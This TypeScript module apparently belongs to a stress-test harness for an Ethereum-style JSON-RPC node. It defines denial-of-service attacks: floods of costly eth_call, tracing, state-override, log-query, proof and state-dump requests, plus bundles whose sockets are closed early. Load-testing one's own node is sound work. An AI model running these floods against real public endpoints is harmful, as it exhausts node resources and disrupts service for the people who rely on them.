import type { Attacker } from "../attacker/attacker.ts";
import { costlyCode } from "../attacker/costly-code.ts";
import { addressOf, batch, call, post, quantity, times, wordOf } from "../attacker/requests.ts";
import type { Attack } from "./attack.ts";

const codes = Object.values(costlyCode);
const PREDEPLOYS = ["0x4200000000000000000000000000000000000007", "0x4200000000000000000000000000000000000015"];
/** the gas cap of calls */
const GAS = "0x2faf080";

/** Bundles of about 35 kB: 350 transactions that never end. */
const callManyBody = call("eth_callMany", [[{ transactions: times(350, () => ({ data: costlyCode.jumps, gas: GAS })) }]]);

export const callManyClosed: Attack = {
  name: "callmany-closed",
  what: "three eth_callMany of 35 kB at once, their sockets closed after half a second, again and again",
  bounds: { connections: 12 },
  async run({ http }, attacker) {
    await Promise.all(
      times(3, async () => {
        while (!attacker.signal.aborted) {
          const socket = await attacker.connect(http);
          if (socket) {
            attacker.send(socket, post(callManyBody));
            attacker.count("requests");
          }
          await attacker.pause(500);
          socket?.destroy();
        }
      }),
    );
  },
};

export const costlyCalls: Attack = {
  name: "costly-calls",
  what: "eth_call of code that burns 50 Mgas on 8 connections",
  bounds: { connections: 8 },
  run: ({ http }, attacker) =>
    attacker.onConnections(http, 8, (socket) => {
      const data = codes[attacker.random(codes.length)]!;
      return attacker.exchange(socket, post(call("eth_call", [{ data, gas: GAS }, "latest"])));
    }),
};

export const batchedCalls: Attack = {
  name: "batched-calls",
  what: "batches of 1,000 eth_call that burn 50 Mgas each, on 4 connections",
  bounds: { connections: 4 },
  run: ({ http }, attacker) =>
    attacker.onConnections(http, 4, (socket, lane) => {
      const data = codes[(lane + attacker.random(codes.length)) % codes.length]!;
      return attacker.exchange(socket, post(batch(times(1000, (id) => call("eth_call", [{ data, gas: GAS }], id)))));
    }),
};

/** Repeats `ask` on this number of connections to the public HTTP port. */
const asking = (name: string, what: string, connections: number, body: (attacker: Attacker, round: number) => string): Attack => ({
  name,
  what,
  bounds: { connections },
  async run({ http }, attacker) {
    let round = 0;
    await attacker.onConnections(http, connections, (socket) => attacker.exchange(socket, post(body(attacker, round++))));
  },
});

const pick = <T>(attacker: Attacker, items: readonly T[]): T => items[attacker.random(items.length)]!;

export const estimateGas = asking("estimate-gas", "eth_estimateGas of costly code on 8 connections", 8, (attacker) =>
  call("eth_estimateGas", [{ data: pick(attacker, codes) }]),
);

export const accessLists = asking("access-lists", "eth_createAccessList of costly code on 8 connections", 8, (attacker) =>
  call("eth_createAccessList", [{ data: pick(attacker, codes), gas: GAS }, "latest"]),
);

export const traceCalls = asking("trace-calls", "debug_traceCall of endless code, every tracer, on 8 connections", 8, (attacker) =>
  call("debug_traceCall", [
    { data: pick(attacker, codes), gas: GAS },
    "latest",
    pick(attacker, [
      {},
      { enableMemory: true },
      { tracer: "callTracer" },
      { tracer: "prestateTracer" },
      { tracer: "4byteTracer" },
      { tracer: "muxTracer", tracerConfig: { callTracer: {}, prestateTracer: {} } },
    ]),
  ]),
);

export const traceBlocks = asking("trace-blocks", "batches of 100 debug_traceBlockByNumber on 4 connections", 4, (attacker) =>
  batch(times(100, (id) => call("debug_traceBlockByNumber", [quantity(1 + attacker.random(20)), { enableMemory: true }], id))),
);

export const feeHistory = asking("fee-history", "batches of 100 eth_feeHistory of 1,024 blocks and 100 percentiles", 4, () =>
  batch(times(100, (id) => call("eth_feeHistory", ["0x400", "latest", times(100, (percent) => percent)], id))),
);

/** An account's code on the chain has at most 24,576 bytes; overrides have no such limit. */
export const largeOverrides = asking(
  "large-overrides",
  "eth_call with 4 MB of code in state overrides, never the same",
  4,
  (attacker) => {
    const code = `0x${attacker
      .random(2 ** 32)
      .toString(16)
      .padStart(8, "0")}${"5b".repeat(1_000_000)}`;
    const overrides = Object.fromEntries(times(4, (index) => [addressOf(4096 + index), { code }]));
    return call("eth_call", [{ to: addressOf(4096), gas: GAS }, "latest", overrides]);
  },
);

export const manyOverrides = asking("many-overrides", "eth_call with 50,000 slots in state overrides", 4, (attacker) => {
  const salt = attacker.random(2 ** 32);
  const stateDiff = Object.fromEntries(times(50_000, (slot) => [wordOf(slot), wordOf(salt + slot)]));
  return call("eth_call", [{ to: addressOf(4096), gas: GAS }, "latest", { [addressOf(4096)]: { code: "0x00", stateDiff } }]);
});

export const simulations = asking("simulations", "eth_simulateV1 of 200 blocks of costly calls on 4 connections", 4, (attacker) =>
  call("eth_simulateV1", [
    {
      blockStateCalls: times(200, () => ({
        stateOverrides: { [addressOf(4096)]: { code: pick(attacker, codes) } },
        calls: times(10, () => ({ from: addressOf(1), to: addressOf(4096), gas: GAS })),
      })),
    },
    "latest",
  ]),
);

export const logQueries = asking(
  "log-queries",
  "eth_getLogs of the whole chain with 2,000 addresses and topics, in batches",
  4,
  (attacker) =>
    batch(
      times(10, (id) => {
        const topics = times(4, (place) => times(500, (index) => wordOf(index * 4 + place)));
        const address = times(2000, () => addressOf(attacker.random(2 ** 32)));
        return call(
          "eth_getLogs",
          [id % 2 === 0 ? { fromBlock: "0x0", toBlock: "latest" } : { fromBlock: "earliest", address, topics }],
          id,
        );
      }),
    ),
);

export const largeProofs = asking("large-proofs", "eth_getProof of 1,000 slots in batches on 4 connections", 4, (attacker) =>
  batch(
    times(10, (id) => {
      const keys = times(1000, () => wordOf(attacker.random(2 ** 32)));
      // the messenger's proxy and the L1 attributes contract have storage
      return call("eth_getProof", [pick(attacker, PREDEPLOYS), keys, "latest"], id);
    }),
  ),
);

export const stateDumps = asking(
  "state-dumps",
  "debug_accountRange, debug_dumpBlock, debug_storageRangeAt of the whole state",
  4,
  (attacker) =>
    pick(attacker, [
      call("debug_dumpBlock", ["latest"]),
      call("debug_accountRange", ["latest", "0x", 1_000_000_000, false, false, false]),
      call("debug_executionWitness", [quantity(1 + attacker.random(20))]),
      call("debug_intermediateRoots", [wordOf(1)]),
      call("txpool_content", []),
    ]),
);
